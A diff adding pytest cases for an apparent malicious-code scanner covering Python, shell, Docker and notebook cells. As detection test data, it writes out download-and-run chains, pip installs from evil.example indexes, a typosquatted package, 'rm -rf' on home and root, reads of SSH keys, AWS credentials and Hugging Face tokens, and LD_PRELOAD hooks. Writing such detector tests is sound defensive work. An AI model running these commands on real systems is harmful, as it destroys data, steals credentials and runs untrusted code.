@@ -442,3 +442,114 @@ def test_a_notebook_of_format_3_is_read() -> None:
     cell = {"cell_type": "code", "input": ["import os\n", "os.system('true')"]}
     found = sources([text("demo.ipynb", "notebook", json.dumps({"nbformat": 3, "worksheets": [{"cells": [cell]}]}))])
     assert "process" in {feature.kind for fact in found for feature in fact.features}
+
+
+@pytest.mark.parametrize(
+    ("code", "kind"),
+    [
+        (
+            "from functools import reduce\nimport torch\nreduce(getattr, ['os', 'system'], torch)('true')",
+            "dynamic-import",
+        ),
+        ("import functools, os\nfunctools.partial(getattr, x)('system')", "dynamic-import"),
+        ("list(map(__import__, names))", "dynamic-import"),
+        ("from werkzeug.utils import import_string\nimport_string(name)", "dynamic-import"),
+        ("from pathlib import Path\n(Path.home() / '.cache' / 'huggingface' / 'token').read_text()", "credential-path"),
+        ("import os\nopen(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))", "credential-path"),
+        ("from pathlib import Path\nPath.home().joinpath('.ssh', 'id_rsa').read_bytes()", "credential-path"),
+        ("from huggingface_hub import constants\nopen(constants.HF_TOKEN_PATH).read()", "credential-path"),
+        ("from pathlib import Path\n(Path.home() / 'notes').write_text('x')", "writes-home"),
+        ("open('/home/u/.x', mode='a').write('x')", "writes-home"),
+        ("from pathlib import Path\n[p.unlink() for p in Path.home().rglob('*')]", "deletes"),
+        ("import os\nfor f in os.listdir('/home'): os.remove(f)", "deletes"),
+        ("import os\nos.environ.update({'LD_PRELOAD': 'x'})", "hooks-interpreter"),
+        ("import os\nos.environ.setdefault('PYTHONPATH', 'x')", "hooks-interpreter"),
+        ("import sys\nsys.path.insert(0, 'weights.zip')\nimport payload", "executes"),
+        ("import sys\nsys.path += ['model.bin']\nimport payload", "executes"),
+        ("import mmap\nmmap.mmap(-1, 4096, prot=7)", "process"),
+        ("import torch\ntorch.serialization.add_safe_globals([f])", "unpickles"),
+        ("from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj='x', repo_id='y')", "sends"),
+        ("s3.put_object(Body=x)", "sends"),
+        ("logging.config.dictConfig({'handlers': {'h': {'()': 'ext://os.system'}}})", "dynamic-import"),
+    ],
+)
+def test_what_is_reached_by_paths_and_look_ups(code: str, kind: str) -> None:
+    assert kind in kinds(code)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import os\nopen(os.path.join(os.path.expanduser('~/.cache'), 'x.json'), 'w')",
+        "import os, sys\nsys.path.append(os.path.dirname(__file__))\nsys.path.insert(0, 'src')",
+        "import os\nos.environ.update({'TOKENIZERS_PARALLELISM': 'false'})\nos.remove('x.tmp')",
+        "from pathlib import Path\nPath('requests').mkdir()\nPath('out/x.txt').write_text('x')",
+        "size = getattr(config, name, None)\nhas = getattr\nhas(config, 'x')",
+    ],
+    ids=range(5),
+)
+def test_honest_paths_and_look_ups_show_nothing(code: str) -> None:
+    assert kinds(code) <= {"home", "removes"}
+
+
+@pytest.mark.parametrize(
+    ("language", "script", "kind"),
+    [
+        ("shell", "curl -o /tmp/x http://x/y && sh /tmp/x", "runs-download"),
+        ("shell", "wget http://x/a.sh -O x.sh\nchmod +x x.sh\n./x.sh", "runs-download"),
+        ("shell", "wget -q 'http://x/a.sh?raw=1'\nset -e\nbash a.sh", "runs-download"),
+        ("shell", "curl http://x > y.py\nsudo python3 y.py", "runs-download"),
+        ("docker", "RUN curl -sSLo i.sh http://x/i\nRUN bash i.sh", "runs-download"),
+        ("shell", "sh <<EOF\n$(curl http://x)\nEOF", "runs-download"),
+        ("shell", "pip install --index-url http://evil.example/simple x", "install-source"),
+        ("shell", "python -m pip install -q --extra-index-url=https://evil.example/simple torch", "install-source"),
+        ("docker", "RUN uv pip install -f https://evil.example/w x", "install-source"),
+        ("shell", "pip3 install https://evil.example/x.whl", "install-source"),
+        ("shell", "export PIP_INDEX_URL=https://evil.example/simple", "install-source"),
+        ("shell", "pip install trasnformers", "imitated-package"),
+        ("shell", "npx -y evil", "process"),
+        ("shell", "cd / && rm -rf *", "destructive"),
+        ("shell", "rm -r --force $HOME", "destructive"),
+        ("shell", "export LD_PRELOAD=./x.so", "hooks-interpreter"),
+        ("shell", "alias sudo='x'", "persistence"),
+        ("script", "system('curl http://x')", "process"),
+        ("script", "`id`", "process"),
+        ("script", 'open(F, "id |")', "process"),
+    ],
+)
+def test_what_scripts_do_over_several_lines(language: str, script: str, kind: str) -> None:
+    assert kind in {feature.kind for feature in lines.features(script, language)}
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "wget https://x/model.safetensors -O model.safetensors\npython convert.py model.safetensors.index.json",
+        "pip install torch --index-url https://download.pytorch.org/whl/cu121",
+        "pip install -r requirements.txt\npip install -U transformers accelerate\npip install git+https://github.com/a/b",
+        "export LD_PRELOAD=/usr/lib/libtcmalloc.so.4\nrm -rf /var/lib/apt/lists/*\nrm -rf ./build",
+        "curl -L https://x/data.json -o data.json\njq . data.json",
+    ],
+    ids=range(5),
+)
+def test_honest_downloads_show_nothing(script: str) -> None:
+    assert lines.features(script, "shell") == ()
+
+
+@pytest.mark.parametrize(
+    ("cells_", "kind"),
+    [
+        (("!wget http://x/a.sh", "x = 1", "!bash a.sh"), "runs-download"),
+        (("%run http://x/a.py",), "executes"),
+        (("%run -i weights.bin",), "executes"),
+        (("%run ../../a.py",), "executes"),
+        (("%%perl\nsystem('x')",), "process"),
+        (("%%ruby\n`x`",), "process"),
+        (("%pip install -i http://evil.example/simple x",), "install-source"),
+    ],
+)
+def test_cells_that_fetch_run_and_install(cells_: tuple[str, ...], kind: str) -> None:
+    facts = sources([text("a.ipynb", "notebook", notebook(*cells_))])
+    assert kind in {feature.kind for fact in facts for feature in fact.features}
+    quiet = sources([text("a.ipynb", "notebook", notebook("%run a.py", "!pip install torch", "%load_ext autoreload"))])
+    assert not [feature for fact in quiet for feature in fact.features]
